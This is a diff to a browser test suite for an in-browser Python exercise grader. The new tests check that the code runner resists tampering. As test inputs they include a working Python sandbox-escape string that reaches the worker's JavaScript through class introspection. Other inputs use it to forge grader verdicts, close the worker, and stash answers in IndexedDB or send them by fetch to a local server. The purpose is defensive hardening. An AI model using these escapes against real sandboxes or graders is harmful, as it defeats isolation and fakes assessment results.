@@ -7,7 +7,7 @@
 
 import assert from 'node:assert/strict';
 import { existsSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
-import { type Server } from 'node:http';
+import { createServer, type Server } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, test } from 'node:test';
@@ -19,13 +19,16 @@ import { TORCH_LECTURE_SEED, TorchBatches, skipInitDraws } from '../../src/core/
 import { REPO, needNames, skipOrFail } from '../helpers.js';
 import { CHROMIUM, NO_BROWSER, browserTest, editorContent, editorText, fillEditor, serveSite } from './site.js';
 
-const SITE = join(REPO, 'dist-web');
+/** the built site (BPN_SITE: another build, e.g. to run a hostile test against an older one) */
+const SITE = process.env.BPN_SITE ?? join(REPO, 'dist-web');
 const SHOTS = process.env.BPN_SCREENSHOTS;
 
 let server: Server;
 let ctx: BrowserContext;
 let page: Page;
 let profile = '';
+/** when the page was opened (the first verdict's latency counts from there: a cold cache) */
+let opened = 0;
 const consoleErrors: string[] = [];
 
 before(async () => {
@@ -45,6 +48,10 @@ before(async () => {
     if (m.type() === 'error') consoleErrors.push(m.text());
   });
   page.on('pageerror', (e) => consoleErrors.push(`pageerror: ${e.message}`));
+  const a = server.address();
+  assert.ok(a !== null && typeof a === 'object');
+  opened = Date.now();
+  await page.goto(`http://127.0.0.1:${a.port}/index.html#exercise`);
 });
 
 after(async () => {
@@ -58,7 +65,7 @@ async function verdictShown(): Promise<void> {
   await page.waitForFunction(() => {
     const k = document.querySelector<HTMLElement>('[data-testid="exercise-verdict"]')?.dataset.kind;
     return k !== undefined && k !== 'running';
-  }, undefined, { timeout: 30_000 });
+  }, undefined, { timeout: 120_000 }); // a cap (a cold start on a busy machine), not an expectation
 }
 
 /** Puts code in the answer's editor (CodeMirror: select all, insert, as a paste) and clicks Check. */
@@ -84,14 +91,12 @@ async function spareReady(): Promise<void> {
 }
 
 browserTest("the lecture's lines are exact (dlogits[range(n), Yb] -= 1, the dC loop); a wrong one and the keepdim slip are named; timings", async () => {
-  const t0 = Date.now();
-  await page.goto(`${(() => { const a = server.address(); assert.ok(a !== null && typeof a === 'object'); return `http://127.0.0.1:${a.port}`; })()}/index.html#exercise`);
   assert.equal(await page.evaluate(() => crossOriginIsolated), true);
   await openEx('counts_sum_inv');
   const first = await attempt('dcounts_sum_inv = (counts * dprobs).sum(1, keepdim=True)');
   assert.equal(first.kind, 'exact', first.text);
   const loads = await page.getByTestId('exercise-verdict').getAttribute('data-loads');
-  console.log(`# exercise runtime: page open to the first verdict ${Date.now() - t0} ms (cold cache); Python start(s) so far: ${loads} ms ('s' = from the snapshot)`);
+  console.log(`# exercise runtime: page open to the first verdict ${Date.now() - opened} ms (cold cache); Python start(s) so far: ${loads} ms ('s' = from the snapshot)`);
   const slip = await attempt('dcounts_sum_inv = (counts * dprobs).sum(1)');
   assert.equal(slip.kind, 'shape');
   assert.match(slip.text, /^Wrong shape: shape \[32\] but the tensor is \[32, 1\]: keepdim\?/);
@@ -196,16 +201,25 @@ browserTest('a tensor stashed on one exercise cannot be returned on another: the
   assert.match((await attempt('dcounts_sum_inv = x_from_before')).text, /NameError: name 'x_from_before' is not defined/);
 });
 
-browserTest('replacing self.onmessage: import js is refused; through a JS proxy it is caught, nothing is judged, later verdicts are real', async () => {
+/**
+ * Python code that reaches the worker's JavaScript through introspection alone (no shim internals, no
+ * import: the guarded import is bypassed): `js` (the worker's globals) and `ffi` (pyodide.ffi).
+ */
+const JS_ROUTE = "b = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__\n" +
+  "js = b['__import__']('js')\nffi = b['__import__']('pyodide.ffi', fromlist=['create_proxy'])\n";
+
+browserTest('replacing self.onmessage: import js is refused; through introspection it is caught, nothing is judged, later verdicts are real', async () => {
   await openEx('probs');
   for (const m of ['js', 'pyodide', '_bpn_torch', 'sys']) {
     const v = await attempt(`import ${m}\n${PROBS}`);
     assert.equal(v.kind, 'error');
     assert.match(v.text, new RegExp(`ImportError: import ${m} is not available in an exercise`));
   }
-  const forged = "{type: 'result', id: e.data.id, secret: '', tampered: null, ran: true, outcome: {ok: true, dtype: 'float32', shape: [32, 27], data: new Float32Array(864)}}";
+  // a reply in the right form, without the runner's secret
+  const forge = "def forge(e):\n    js.self.postMessage(ffi.to_js({'type': 'result', 'id': e.data.id, 'secret': '', 'tampered': None, 'ran': True, " +
+    "'outcome': {'ok': True, 'dtype': 'float32', 'shape': [32, 28], 'data': js.Float32Array.new(896)}}, dict_converter=js.Object.fromEntries))\n";
   await spareReady();
-  const attack = await attempt(`f = torch._J.constructor.constructor("self.onmessage = (e) => self.postMessage(${forged})")\nf()\n${PROBS}`);
+  const attack = await attempt(`${JS_ROUTE}${forge}js.self.onmessage = ffi.create_proxy(forge)\n${PROBS}`);
   assert.equal(attack.kind, 'error', attack.text);
   assert.match(attack.text, /tampered with the code runner \(self\.onmessage was replaced\): nothing was judged/);
   const wrong = await attempt('dprobs = dlogprobs * probs');
@@ -213,14 +227,14 @@ browserTest('replacing self.onmessage: import js is refused; through a JS proxy 
   assert.ok(wrong.ms < 1500, `the spare was warm: ${wrong.ms} ms`);
   assert.equal((await attempt(PROBS)).kind, 'exact');
   // replaced later, by a timer: the next run finds the worker deaf, and the spare runs it
-  const later = await attempt(`torch._J.constructor.constructor("setTimeout(() => { self.onmessage = () => {} }, 0)")()\n${PROBS}`);
+  const later = await attempt(`${JS_ROUTE}js.setTimeout(ffi.create_proxy(lambda: setattr(js.self, 'onmessage', ffi.create_proxy(lambda e: None))), 0)\n${PROBS}`);
   assert.equal(later.kind, 'exact', later.text);
   await spareReady();
   const after = await attempt('dprobs = dlogprobs * probs');
   assert.equal(after.kind, 'wrong', after.text);
   console.log(`# exercise: a run on a worker that stopped answering took ${after.ms} ms (replaced, rerun on the spare)`);
-  // a hand-made reply without the worker's secret
-  const forged2 = await attempt(`torch._J.constructor.constructor("setTimeout(() => { self.onmessage = (e) => self.postMessage(${forged.replace(/'/g, "\\'")}) }, 0)")()\n${PROBS}`);
+  // a forged reply, sent by a timer an earlier run left behind
+  const forged2 = await attempt(`${JS_ROUTE}${forge}js.setTimeout(ffi.create_proxy(lambda: setattr(js.self, 'onmessage', ffi.create_proxy(forge))), 0)\n${PROBS}`);
   assert.equal(forged2.kind, 'exact', forged2.text);
   await spareReady();
   const next = await attempt('dprobs = dlogprobs * probs');
@@ -231,13 +245,91 @@ browserTest('replacing self.onmessage: import js is refused; through a JS proxy 
 browserTest('self.close(): caught, and the next run works at once (no 3 s wait)', async () => {
   await openEx('probs');
   await spareReady();
-  const close = await attempt(`torch._J.constructor.constructor("self.close()")()\n${PROBS}`);
+  const close = await attempt(`${JS_ROUTE}js.self.close()\n${PROBS}`);
   assert.equal(close.kind, 'error', close.text);
   assert.match(close.text, /self\.close\(\) was called/);
   const next = await attempt(PROBS);
   assert.equal(next.kind, 'exact', next.text);
   assert.ok(next.ms < 1500, `${next.ms} ms`);
   console.log(`# exercise: the run after self.close() took ${next.ms} ms`);
+});
+
+// Issue 19: an answer with no derivation got "Exact": the runner's JavaScript is one introspection away, and the
+// storage every runner shared carried the gradient given on exercise k+1 (dcounts_sum_inv, given to
+// counts_sum) back to exercise k (counts_sum_inv, which asks for it). Each route below stashes it on the runner
+// that was given it, then, on the fresh runner the page gives exercise k, fetches it back in one answer (the
+// reply arrives after the run) and returns it in the next.
+const STASH_ON = 'counts_sum'; // given dcounts_sum_inv
+const STASH_FOR = 'counts_sum_inv'; // asks for it
+const GIVE_BACK = `${JS_ROUTE}import json\ndcounts_sum_inv = torch.tensor(json.loads(js.self.bpn_stash)).view(n, 1)`;
+
+browserTest('no storage reaches a runner: a gradient stashed in IndexedDB on exercise k+1 is not there on exercise k', async () => {
+  await openEx(STASH_ON);
+  const put = await attempt(`${JS_ROUTE}import json
+vals = json.dumps(dcounts_sum_inv.flatten().tolist())
+req = js.indexedDB.open('bpn-stash', 1)
+def upgrade(e):
+    req.result.createObjectStore('s')
+def opened(e):
+    req.result.transaction('s', 'readwrite').objectStore('s').put(vals, 'g')
+req.onupgradeneeded = ffi.create_proxy(upgrade)
+req.onsuccess = ffi.create_proxy(opened)
+dcounts_sum = (-counts_sum**-2) * dcounts_sum_inv`);
+  await openEx(STASH_FOR);
+  await spareReady();
+  const fetchBack = await attempt(`${JS_ROUTE}req = js.indexedDB.open('bpn-stash', 1)
+def opened(e):
+    g = req.result.transaction('s').objectStore('s').get('g')
+    g.onsuccess = ffi.create_proxy(lambda e2: setattr(js.self, 'bpn_stash', g.result))
+req.onsuccess = ffi.create_proxy(opened)
+dcounts_sum_inv = counts`);
+  const back = await attempt(GIVE_BACK);
+  assert.ok(back.kind !== 'exact' && back.kind !== 'approximate', `the stashed gradient came back: ${back.text}`);
+  // the runner has no IndexedDB at all: opening one is refused at once
+  assert.equal(put.kind, 'error', put.text);
+  assert.match(put.text, /SecurityError/, put.text);
+  assert.equal(fetchBack.kind, 'error', fetchBack.text);
+  // and the page's own storage holds nothing of it
+  assert.equal(await page.evaluate(async () => (await indexedDB.databases()).some((d) => d.name === 'bpn-stash')), false);
+});
+
+browserTest('no network from a runner: a gradient posted to a server on exercise k+1 never leaves, nothing comes back on exercise k', async () => {
+  // a learner's own server that keeps what it is sent and gives it back to anyone (CORS: *)
+  let stashed = '';
+  const hits: string[] = [];
+  const stash = createServer((req, res) => {
+    hits.push(`${req.method} ${req.url}`);
+    const cors = { 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin' };
+    if (req.method === 'POST') {
+      let body = '';
+      req.on('data', (c: Buffer) => (body += c.toString()));
+      req.on('end', () => {
+        stashed = body;
+        res.writeHead(200, cors).end('ok');
+      });
+    } else {
+      res.writeHead(200, cors).end(stashed);
+    }
+  });
+  await new Promise<void>((r) => stash.listen(0, '127.0.0.1', () => r()));
+  const url = `http://127.0.0.1:${(stash.address() as { port: number }).port}/g`;
+  try {
+    await openEx(STASH_ON);
+    const put = await attempt(`${JS_ROUTE}import json
+js.fetch('${url}', ffi.to_js({'method': 'POST', 'body': json.dumps(dcounts_sum_inv.flatten().tolist())}, dict_converter=js.Object.fromEntries))
+dcounts_sum = (-counts_sum**-2) * dcounts_sum_inv`);
+    assert.ok(put.kind === 'exact' || put.kind === 'approximate', put.text); // fetch's promise fails later, unseen
+    await openEx(STASH_FOR);
+    await spareReady();
+    await attempt(`${JS_ROUTE}js.fetch('${url}').then(ffi.create_proxy(lambda r: r.text().then(ffi.create_proxy(lambda t: setattr(js.self, 'bpn_stash', t)))))
+dcounts_sum_inv = counts`);
+    await page.waitForTimeout(300);
+    const back = await attempt(GIVE_BACK);
+    assert.ok(back.kind !== 'exact' && back.kind !== 'approximate', `the stashed gradient came back: ${back.text}`);
+    assert.deepEqual(hits, [], 'the runner reached the network');
+  } finally {
+    stash.close();
+  }
 });
 
 browserTest('an endless loop is interrupted (cross-origin isolated) with a clear message; the runner stays', async () => {
